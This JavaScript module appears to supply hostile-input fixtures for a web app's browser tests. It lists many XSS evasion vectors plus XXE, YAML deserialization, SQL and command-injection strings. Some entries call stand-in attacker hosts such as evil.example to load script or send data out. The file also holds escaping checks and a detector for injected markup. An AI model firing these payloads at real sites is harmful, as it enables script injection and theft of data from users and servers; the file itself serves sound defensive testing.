// Hostile input for the browser tests (hostile.test.mjs, limits.test.mjs): the payloads, where they
// go in the form, what each output must show for them, and the specs, files and links that carry them;
// also what watches the page (its long tasks, for bench/freeze.mjs; its tasks, for limits.test.mjs)
// and generators of large input (for large.mjs).
//
// Every payload that could run script has one effect only: `window.__pwned = 1`, or a dialog
// (`alert`, `confirm`, `prompt`). A test fails if either ever happens, if the CSP reports a
// violation, or if a payload reaches the network (an `<img src=x>` that became markup asks the
// server for /x: the HTTP-error guard sees the 404).
import { deflateRawSync } from "node:zlib";

const PWN = "window.__pwned=1";

/** OWASP XSS filter-evasion cheat sheet style vectors, and the specials of every output format. */
const VECTORS = {
  // Script elements: casings, spacing, encodings, split and nested tags.
  script: [
    `<script>${PWN}</script>`,
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script\t>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script/src=data:,window.__pwned=1></script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    '<script type="text/javascript">alert(1)</script>',
    '<script type="module">import("data:text/javascript,alert(1)")</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    "<script>alert(1)<!--",
    "</script><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</article></div><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "&#0000060script&#0000062alert(1)",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
    "<script>eval(atob('d2luZG93Ll9fcHduZWQ9MQ=='))</script>",
    "<script>setTimeout('window.__pwned=1')</script>",
    "<script>Function('window.__pwned=1')()</script>",
  ],
  // Event-handler attributes on every kind of element.
  handlers: [
    `<img src=x onerror="${PWN}">`,
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>",
    "<img src=x onerror=\"javascript:alert(1)\">",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    `<svg onload="${PWN}">`,
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<iframe onload=alert(1)>",
    "<object data=x onerror=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a onclick=alert(1) href=#>click</a>",
    "<button onclick=alert(1)>x</button>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<img src=x onerror=window['al'+'ert'](1)>",
    "<img src=x onerror=top[/al/.source+/ert/.source](1)>",
    "<img src=x onerror=this.ownerDocument.defaultView.__pwned=1>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "x\" onerror=\"alert(1)\" y=\"",
  ],
  // URLs that run script or load content.
  urls: [
    "javascript:alert(1)",
    `javascript:${PWN}`,
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "javascript://%0Aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript&colon;alert(1)>x</a>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<embed src=data:text/html,<script>alert(1)</script>>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<isindex action=javascript:alert(1) type=image>",
    "https://evil.example/steal?c=",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "<img src=//evil.example/pixel.gif>",
  ],
  // SVG and MathML.
  svgMath: [
    "<svg><script>alert(1)</script></svg>",
    `<svg><script href="data:,${PWN}"/></svg>`,
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x />",
    "<svg><style>@import 'data:,*{x:y}';</style></svg>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)//\"></svg>",
    "</text><script>alert(1)</script><text>",
    "</svg><img src=x onerror=alert(1)>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
  ],
  // Broken quotes and tags, comments and CDATA.
  broken: [
    "\"",
    "'",
    "`",
    "\"'`",
    "\">",
    "'>",
    "<",
    ">",
    "<<<>>>",
    "</",
    "<a",
    "<a href='",
    "<img src=\"x",
    "<!--",
    "-->",
    "<!-- <script>alert(1)</script> -->",
    "--><script>alert(1)</script><!--",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "]]>",
    "<!DOCTYPE html>",
    "<?php echo 1; ?>",
    "<% alert(1) %>",
    "<b>bold</b><i>italic",
    "</b></i></strong></em></code></li></ul></table>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<table><td><tr>",
  ],
  // CSS.
  css: [
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    "<div style=\"behavior:url(x.htc)\">x</div>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "x{}*{color:red}</style>",
    "expression(alert(1))",
    "-moz-binding:url(http://evil.example/xss.xml#xss)",
    "<style>*{background:url('data:image/svg+xml,<svg onload=alert(1)>')}</style>",
  ],
  // Template injection in the engines planb and its readers use.
  templates: [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{= 7*7}}",
    "[[7*7]]",
    "{{ plan.component.name }}",
    "{{ range.__init__.__globals__ }}",
    "{% raw %}{{ x }}{% endraw %}",
    "{% for x in range(100000000) %}x{% endfor %}",
    "{# comment #}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${{ secrets.GITHUB_TOKEN }}",
    "${env.SECRET}",
    "$(id)",
    "`id`",
    "{workload}",
    "{namespace}{component}",
    "{{workload}}",
    "%s%s%s%n%x",
    "@{alert(1)}",
  ],
  // Markdown.
  markdown: [
    "[click](javascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "![x](x\" onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "[a]: javascript:alert(1)",
    "# heading",
    "## not a heading",
    "> quote",
    "- list",
    "* list",
    "+ list",
    "1. list",
    "1) list",
    "---",
    "===",
    "| a | b |\n|---|---|",
    "```\ncode\n```",
    "~~~js\nalert(1)\n~~~",
    "**bold** __bold__ *em* _em_ ~~strike~~",
    "`code`",
    "snake_case_name __init__ _private",
    "\\*not em\\*",
    "line one\nline two\n\n# heading after a blank line",
    "trailing two spaces  \nhard break",
    "&amp; &lt; &#60; &copy;",
    "[^1]",
    "- [ ] task",
  ],
  // Confluence and Jira wiki markup.
  wiki: [
    "{html}<script>alert(1)</script>{html}",
    "[link|javascript:alert(1)]",
    "!image.png|onerror=alert(1)!",
    "{noformat}x{noformat}",
    "{code}x{code}",
    "h1. heading",
    "\\\\ line break",
    "----",
    "{color:red}x{color}",
    "*bold* _em_ -strike- +under+ ^sup^ ~sub~ ??cite??",
    "[~username]",
    "{anchor:x}",
  ],
  // Slack mrkdwn.
  slack: ["<!channel>", "<!here|here>", "<@U012345>", "<https://evil.example|click>", "*bold* _it_ ~st~ `c`"],
  // Mermaid.
  mermaid: [
    '"]); click T call alert(1); %%',
    "%%{init: {\"securityLevel\": \"loose\"}}%%",
    "A --> B",
    "end",
    "click T \"javascript:alert(1)\"",
    "#quot; #35; #lt;",
    "<br/><b>x</b>",
    "classDef x fill:#f00;",
  ],
  // YAML and JSON specials.
  yamlJson: [
    "&anchor",
    "*alias",
    "!!python/object/apply:os.system ['id']",
    "!<tag:yaml.org,2002:str> x",
    "--- ",
    "...",
    "? key",
    ": value",
    "key: value",
    "- item",
    "yes",
    "no",
    "null",
    "~",
    "0x1F",
    ".inf",
    "1e999",
    "'single'",
    '"double"',
    "\"}",
    '{"a": 1}',
    "[1, 2]",
    "__proto__",
    '{"__proto__": {"polluted": 1}}',
    "constructor.prototype",
    "# not a comment",
    "|\n  block",
    ">-\n  folded",
    "@at",
    "%TAG ! tag:x,2000:",
  ],
  // Right-to-left, zero-width, combining and other Unicode that misleads a reader.
  unicode: [
    "\u202Egnp.exe",
    "abc\u202Edef\u202Cghi",
    "\u202Dforce left-to-right",
    "\u2067isolate\u2069",
    "\u200Fright-to-left mark",
    "zero\u200Bwidth\u200Cjoin\u200Dner\u2060word",
    "\uFEFFbyte order mark",
    "soft\u00ADhyphen",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B",
    "Z\u0351\u0352\u0357\u0350a\u035B\u0346l\u0350\u0346g\u0352o",
    "\u0430\u0440\u0440\u04CF\u0435.com",
    "\uD835\uDD4F\uD835\uDD50 astral",
    "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66",
    "line\u2028separator",
    "paragraph\u2029separator",
    "next\u0085line",
    "non\uFFFEcharacters\uFFFF",
    "\u00A0no-break\u3000ideographic",
    "e\u0301 vs \u00E9",
    "\u{E0041}tag characters\u{E007F}",
    "\u061C\u0627\u0644\u0639\u0631\u0628\u064A\u0629",
    "\u05E2\u05D1\u05E8\u05D9\u05EA <script>alert(1)</script>",
  ],
  // Control characters.
  control: [
    "nul\u0000byte",
    "bell\u0007 backspace\b\b\bxxx",
    "\u001b[31mred\u001b[0m",
    "\u001b]0;title\u0007",
    "\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\",
    "\u009b31mCSI",
    "carriage\rreturn",
    "crlf\r\nline",
    "tab\there",
    "form\ffeed vertical\u000Btab",
    "del\u007Fchar",
    "\u0001\u0002\u0003\u0004\u0005\u0006\u000E\u000F\u0010\u001F",
    "\u0080\u0090\u009f c1",
  ],
  // Plain text that must survive exactly.
  plain: [
    "O'Brien & Söhne \"quoted\" <tagged>",
    "Robert'); DROP TABLE students;--",
    "1' OR '1'='1",
    "../../../../etc/passwd",
    "C:\\Windows\\System32",
    "%00%0d%0a",
    "a\\b\\\\c",
    "emoji 😀🚀 and 中文 日本語 한국어",
    "$HOME ~ %PATH% $(whoami)",
  ],
};

/** Very long strings (kept to tens of kilobytes, since a field can appear dozens of times in a plan). */
const LONG = [
  "A".repeat(10_000),
  `<img src=x onerror=alert(1)>`.repeat(400),
  "<div>".repeat(2_000) + "deep" + "</div>".repeat(2_000),
  "<".repeat(5_000),
  "word ".repeat(3_000).trim(),
  "\u202E\u200B".repeat(2_000) + "end",
  "x".repeat(30_000) + "<script>alert(1)</script>",
];

/** Every payload, in a fixed order. */
export const PAYLOADS = [...Object.values(VECTORS).flat(), ...LONG];

/** The text fields a payload goes into; the list fields' rows exist in the first example. */
export const TEXT_FIELDS = [
  "component.name",
  "component.description",
  "component.owner_team",
  "change.id",
  "change.cab",
  "deployment.pipeline",
  "deployment.namespace",
  "deployment.workload",
  "abort.decision_owner",
  "channels.chat",
  "channels.email",
  "channels.status_page",
  "channels.bridge",
  "rehearsal.environment",
  "fallback.notes",
  "kill_switches.0.flag_key",
  "verification.kpis.0.metric",
  "data_changes.0.description",
  "people.stakeholders.0.name",
];

/** The button that adds the first row of a list field's list, for a form that has none. */
export const ADD_BUTTON = {
  "kill_switches.0.flag_key": "#add-kill_switches",
  "verification.kpis.0.metric": "#add-kpis",
  "data_changes.0.description": "#add-data_changes",
  "people.stakeholders.0.name": "#add-stakeholders",
};

/** Which payloads go where in round `round`: every field gets a different payload, and over
 * PAYLOADS.length rounds every field gets every payload once. */
export function assignment(round, fields = TEXT_FIELDS) {
  const n = PAYLOADS.length;
  // A stride prime to n spreads neighbouring payloads (often of one kind) over different rounds.
  const stride = stridePrimeTo(n, 7);
  return fields.map((path, j) => ({ path, payload: PAYLOADS[(round + j * stride) % n] }));
}

function stridePrimeTo(n, start) {
  const gcd = (a, b) => (b ? gcd(b, a % b) : a);
  let s = start;
  while (gcd(s, n) !== 1) s++;
  return s;
}

// ---------------------------------------------------------------------------------------------
// What a field holds once typed, and what each output shows for it (mirrors src/render/escape.rs).

/** What a text input or textarea holds after the payload is typed (browsers normalise line breaks). */
export function typed(payload, multiline) {
  return multiline ? payload.replace(/\r\n?/g, "\n") : payload.replace(/\r\n|\r|\n/g, " ");
}

/** Unicode White_Space, which Rust's `str::trim` and `split_whitespace` use (JS's `\s` differs). */
const RUST_WS = /[\t\n\u000B\f\r \u0085\u00A0\u1680\u2000-\u200A\u2028\u2029\u202F\u205F\u3000]/u;
const RUST_WS_G = new RegExp(RUST_WS.source, "gu");

export function rustTrim(s) {
  const chars = [...s];
  let a = 0;
  let b = chars.length;
  while (a < b && RUST_WS.test(chars[a])) a++;
  while (b > a && RUST_WS.test(chars[b - 1])) b--;
  return chars.slice(a, b).join("");
}

/** Whether planb would take the text for an empty value. */
export const isBlank = (s) => rustTrim(s) === "";

/** Control characters (except line feed and tab), line and paragraph separators and U+FFFE/U+FFFF
 * are shown as `\u{…}` (escape.rs `push_visible`). */
function needsVisible(c) {
  const n = c.codePointAt(0);
  return (
    ((n <= 0x1f || (n >= 0x7f && n <= 0x9f)) && c !== "\n" && c !== "\t") ||
    n === 0x2028 ||
    n === 0x2029 ||
    n === 0xfffe ||
    n === 0xffff
  );
}
const visibleOf = (c) => `\\u{${c.codePointAt(0).toString(16)}}`;

/** Plain text (escape.rs `text`). */
export function visible(s) {
  let out = "";
  for (const c of s) out += needsVisible(c) ? visibleOf(c) : c;
  return out;
}

const XML = { "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" };
// Markup characters, and the parentheses of emoticons such as (x) and (/), which Confluence draws as icons.
const WIKI_SPECIAL = new Set([..."*_-+^~?{}[]|!#()"]);
const MERMAID = { '"': "#quot;", "#": "#35;", "<": "#lt;", ">": "#gt;", "&": "#amp;", "`": "#96;" };
const SLACK = { "&": "&amp;", "<": "&lt;", ">": "&gt;" };
const jsonInner = (s) => JSON.stringify(s).slice(1, -1);
const wikiText = (s) =>
  [...s].map((c) => (c === "\\" ? "&#92;" : c === "&" ? "&amp;" : WIKI_SPECIAL.has(c) ? `\\${c}` : c)).join("");

/**
 * The ways each format may write one character of user text. Where a value reaches a format on
 * two paths (directly, or inside a message rendered as plain text first), both spellings are
 * allowed; Markdown's context-dependent escapes (`_`, a leading `#`, `1.`) allow both forms too.
 */
const SPELLINGS = {
  text: (c) => [needsVisible(c) ? visibleOf(c) : c],
  xml: (c) => [XML[c] ?? (needsVisible(c) ? visibleOf(c) : c)],
  markdown(c) {
    if (c === "\n") return [" "];
    if (c === "\r") return ["", " "];
    if ("\\`*[]<>|~!".includes(c)) return [`\\${c}`];
    if ("_#-+=.)".includes(c)) return [c, `\\${c}`];
    if (c === "&") return ["&", "&amp;"];
    if (needsVisible(c)) return [visibleOf(c), `\\${visibleOf(c)}`];
    return [c];
  },
  wiki(c) {
    if (c === "\n" || c === "\r") return [" "];
    // A colon is escaped only before P or D (the emoticons :P and :D).
    if (c === ":") return [":", "\\:"];
    if (needsVisible(c)) return [visibleOf(c), wikiText(visibleOf(c))];
    return [wikiText(c)];
  },
  slack(c) {
    if (c === "\n" || c === "\r") return [" "];
    return [SLACK[c] ?? (needsVisible(c) ? visibleOf(c) : c)];
  },
  mermaid(c) {
    if (c === "\n" || c === "\r") return [" "];
    return [MERMAID[c] ?? (needsVisible(c) ? visibleOf(c) : c)];
  },
  json(c) {
    if (needsVisible(c)) return [jsonInner(c), jsonInner(visibleOf(c))];
    return [jsonInner(c)];
  },
};

const reEscape = (s) => s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");

/** A pattern matching `value` as `format` writes it (value already trimmed). */
function spelledPattern(format, value) {
  const spell = SPELLINGS[format];
  let source = "";
  for (const c of value) {
    const ways = [...new Set(spell(c))];
    source += ways.length === 1 ? reEscape(ways[0]) : `(?:${ways.map(reEscape).join("|")})`;
  }
  return new RegExp(source, "u");
}

/**
 * How each output tab shows user text: `kind` is how the test reads the preview, `format` which
 * escaping applies. `svg` text is wrapped by word, so it is compared with white space removed.
 */
export const TAB_FORMATS = {
  plan: { kind: "article", format: "text" },
  reply: { kind: "pre", format: "text" },
  markdown: { kind: "pre", format: "markdown" },
  "markdown-brief": { kind: "pre", format: "markdown" },
  text: { kind: "pre", format: "text" },
  html: { kind: "pre", format: "xml" },
  confluence: { kind: "pre", format: "xml" },
  wiki: { kind: "pre", format: "wiki" },
  servicenow: { kind: "pre", format: "text" },
  slack: { kind: "pre", format: "slack" },
  mermaid: { kind: "pre", format: "mermaid" },
  svg: { kind: "svg", format: "svg" },
  json: { kind: "pre", format: "json" },
};

/**
 * Whether the preview text of a tab shows the value a field holds. For the Plan tab this is the
 * article's textContent (markup is parsed, so the value must come back character for character,
 * with control characters made visible); for the other tabs it is the source text in the
 * `pre.source`, where the value appears escaped by that format's rules.
 */
export function shows(format, previewText, value) {
  const v = rustTrim(value);
  if (v === "") return true;
  if (format === "text") return previewText.includes(visible(v));
  if (format === "svg") {
    const squeeze = (s) => s.replace(RUST_WS_G, "");
    return squeeze(previewText).includes(visible(squeeze(v)));
  }
  return spelledPattern(format, v).test(previewText);
}

// ---------------------------------------------------------------------------------------------
// Specs, files and links.

/** Sets a dotted form path (`kill_switches.0.flag_key`) in a spec object. */
export function setPath(spec, path, value) {
  const keys = path.split(".");
  let node = spec;
  keys.slice(0, -1).forEach((k, i) => {
    const nextIsIndex = /^\d+$/.test(keys[i + 1]);
    node[k] ??= nextIsIndex ? [] : {};
    node = node[k];
  });
  node[keys.at(-1)] = value;
  return spec;
}

/** The spec `base` with each field of `assigned` ([{ path, payload }]) set to its payload. */
export function specWith(base, assigned) {
  const spec = structuredClone(base);
  for (const { path, payload } of assigned) setPath(spec, path, payload);
  return spec;
}

/** A permalink fragment (without "#"), as support.mjs's permalinkFor but from any JSON text. */
export function linkForJson(json) {
  return `v1.${deflateRawSync(Buffer.from(json)).toString("base64url")}`;
}

/**
 * YAML for a spec: block mappings and sequences, every string double-quoted with YAML's escapes
 * (so a payload's quotes, colons, `#`, `&`, `*`, `!`, `{`, line breaks and control characters stay
 * text), numbers and booleans plain.
 */
export function toYaml(value, indent = "") {
  if (Array.isArray(value)) {
    if (value.length === 0) return "[]";
    return value
      .map((item) => {
        const body = toYaml(item, `${indent}  `);
        return isCollection(item) && Object.keys(item).length ? `${indent}- ${body.trimStart()}` : `${indent}- ${body}`;
      })
      .join("\n");
  }
  if (value && typeof value === "object") {
    const entries = Object.entries(value);
    if (entries.length === 0) return "{}";
    return entries
      .map(([k, v]) =>
        isCollection(v) && Object.keys(v).length
          ? `${indent}${yamlString(k)}:\n${toYaml(v, `${indent}  `)}`
          : `${indent}${yamlString(k)}: ${toYaml(v, `${indent}  `)}`,
      )
      .join("\n");
  }
  if (typeof value === "string") return yamlString(value);
  return String(value);
}

const isCollection = (v) => v !== null && typeof v === "object";

/** A YAML double-quoted scalar; characters outside YAML's printable set are escaped. */
export function yamlString(s) {
  let out = '"';
  for (const c of s) {
    const n = c.codePointAt(0);
    if (c === '"') out += '\\"';
    else if (c === "\\") out += "\\\\";
    else if (c === "\n") out += "\\n";
    else if (c === "\r") out += "\\r";
    else if (c === "\t") out += "\\t";
    else if (n < 0x20 || (n >= 0x7f && n <= 0x9f) || n === 0xfeff || n === 0xfffe || n === 0xffff || n === 0x2028 || n === 0x2029)
      out += `\\u${n.toString(16).padStart(4, "0")}`;
    else out += c;
  }
  return `${out}"`;
}

// ---------------------------------------------------------------------------------------------
// Watching the page.

/**
 * An init script: records every long task (over 50 ms) in `window.__longTasks`, and every long
 * animation frame (over 50 ms, rendering included) in `window.__longFrames`. An observer reports
 * an entry in a later task; `window.__reportLongTasks()` takes those not yet reported at once.
 */
export function watchPage() {
  window.__longTasks = [];
  window.__longFrames = [];
  const observers = [];
  const task = (e) => window.__longTasks.push({ start: e.startTime, duration: e.duration });
  const frame = (e) => window.__longFrames.push({ start: e.startTime, duration: e.duration, blocking: e.blockingDuration });
  for (const [type, record] of [["longtask", task], ["long-animation-frame", frame]]) {
    try {
      const observer = new PerformanceObserver((list) => list.getEntries().forEach(record));
      observer.observe({ type, buffered: true });
      observers.push([observer, record]);
    } catch {
      // No Long Tasks (or Long Animation Frames) API: the caller says so instead of passing silently.
      if (type === "longtask") window.__longTasks = null;
      else window.__longFrames = null;
    }
  }
  window.__reportLongTasks = () => {
    for (const [observer, record] of observers) observer.takeRecords().forEach(record);
  };
}

/**
 * An init script: a trace of what planb does, task by task, in `window.__trace`.
 *
 * planb goes on in a new task with a timer (`next_task` in src/wasm/app/dom.rs, and the pause after
 * typing): each time one of its timers fires, `task` counts one more. Every entry carries the count
 * at the time it was recorded, so two entries with different counts ran in different tasks (entries
 * with the same count may still have, after a task that was not one of planb's timers: a file read,
 * an event). Entries: planb's performance marks (`mark`, with its `name`), writes to the browser's
 * storage (`save`, with the `key`), changes of the address (`address`), rows added to a list of the
 * form (`rows`, with the `list` and its `count`), the form's `aria-busy` (`busy`, its value or null)
 * and the status line (`status`, with its `text`).
 */
export function tracePage() {
  const trace = (window.__trace = []);
  let task = 0;
  const log = (kind, fields = {}) => trace.push({ task, kind, ...fields });
  // planb's timers are set from its module (wasm-bindgen's glue, assets/planb.<hash>.js).
  const fromPlanb = () => /\/assets\/planb\.[0-9a-f]+\.js:/.test(new Error().stack ?? "");
  const setTimeout = window.setTimeout;
  window.setTimeout = function (callback, ...rest) {
    if (typeof callback !== "function" || !fromPlanb()) return setTimeout.call(this, callback, ...rest);
    return setTimeout.call(
      this,
      function (...args) {
        task += 1;
        return callback.apply(this, args);
      },
      ...rest,
    );
  };
  const mark = Performance.prototype.mark;
  Performance.prototype.mark = function (name, ...rest) {
    log("mark", { name });
    return mark.call(this, name, ...rest);
  };
  const setItem = Storage.prototype.setItem;
  Storage.prototype.setItem = function (key, ...rest) {
    if (this === window.localStorage) log("save", { key });
    return setItem.call(this, key, ...rest);
  };
  const replaceState = History.prototype.replaceState;
  History.prototype.replaceState = function (...args) {
    log("address");
    return replaceState.apply(this, args);
  };
  new MutationObserver((records) => {
    const rows = new Map();
    let status = false;
    for (const r of records) {
      if (r.type === "attributes" && r.target.id === "spec-form") log("busy", { busy: r.target.getAttribute("aria-busy") });
      const at = r.target.nodeType === 1 ? r.target : r.target.parentElement;
      if (at?.closest("#status")) status = true;
      for (const node of r.addedNodes) {
        if (node.nodeType !== 1) continue;
        for (const row of node.matches(".row") ? [node] : node.querySelectorAll(".row")) {
          const list = row.closest("[data-list]")?.dataset.list ?? "?";
          rows.set(list, (rows.get(list) ?? 0) + 1);
        }
      }
    }
    for (const [list, count] of rows) log("rows", { list, count });
    if (status) log("status", { text: document.getElementById("status-text")?.textContent ?? "" });
  }).observe(document, { childList: true, subtree: true, characterData: true, attributeFilter: ["aria-busy"] });
}

/**
 * What the preview holds that user text must never produce: script-capable elements, event-handler
 * attributes, and links or sources that are not the plan's own https:// sources.
 */
export function previewMarkupProblems() {
  const preview = document.getElementById("preview");
  const forbidden =
    "script, iframe, frame, object, embed, img, image, video, audio, source, input, select, textarea, button, form, " +
    "style, link, meta, base, math, foreignObject, template, noscript, marquee, details, svg svg, animate, set, use";
  // The ServiceNow tab's own Copy buttons are the page's, not the user's.
  const problems = [...preview.querySelectorAll(forbidden)]
    .filter((e) => !(e.localName === "button" && e.hasAttribute("data-copy-field") && e.attributes.length === 3))
    .map((e) => `<${e.localName}>`);
  for (const e of preview.querySelectorAll("*")) {
    for (const a of e.attributes) {
      if (/^on/i.test(a.name)) problems.push(`${e.localName}[${a.name}]`);
      if (/^(href|src|xlink:href|action|formaction|srcdoc|style)$/i.test(a.name)) {
        const ok = a.name === "href" && /^https:\/\//.test(a.value) && e.localName === "a";
        const svgMarker = e.localName === "path" || e.localName === "marker";
        if (!ok && !svgMarker) problems.push(`${e.localName}[${a.name}=${a.value.slice(0, 40)}]`);
      }
    }
  }
  return problems;
}

// ---------------------------------------------------------------------------------------------
// Large input.

/** A small seeded generator (xorshift32), so large "random" specs are the same on every run. */
export function seeded(seed = 0x9e3779b9) {
  let x = seed >>> 0 || 1;
  return () => {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    return x / 0x100000000;
  };
}

const ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

/** `length` characters drawn at random from letters and digits: text that deflate cannot shrink much. */
export function randomText(random, length) {
  let out = "";
  for (let i = 0; i < length; i++) out += ALNUM[Math.floor(random() * ALNUM.length)];
  return out;
}

/** Prose-like text of exactly `length` characters: random words from a small vocabulary. */
export function randomWords(random, length) {
  const words = "deploy payment ledger canary rollback flag switch traffic metric owner window queue schema backup restore"
    .split(" ");
  let out = "";
  while (out.length < length) out += `${words[Math.floor(random() * words.length)]} `;
  return out.slice(0, length - 1) + ".";
}
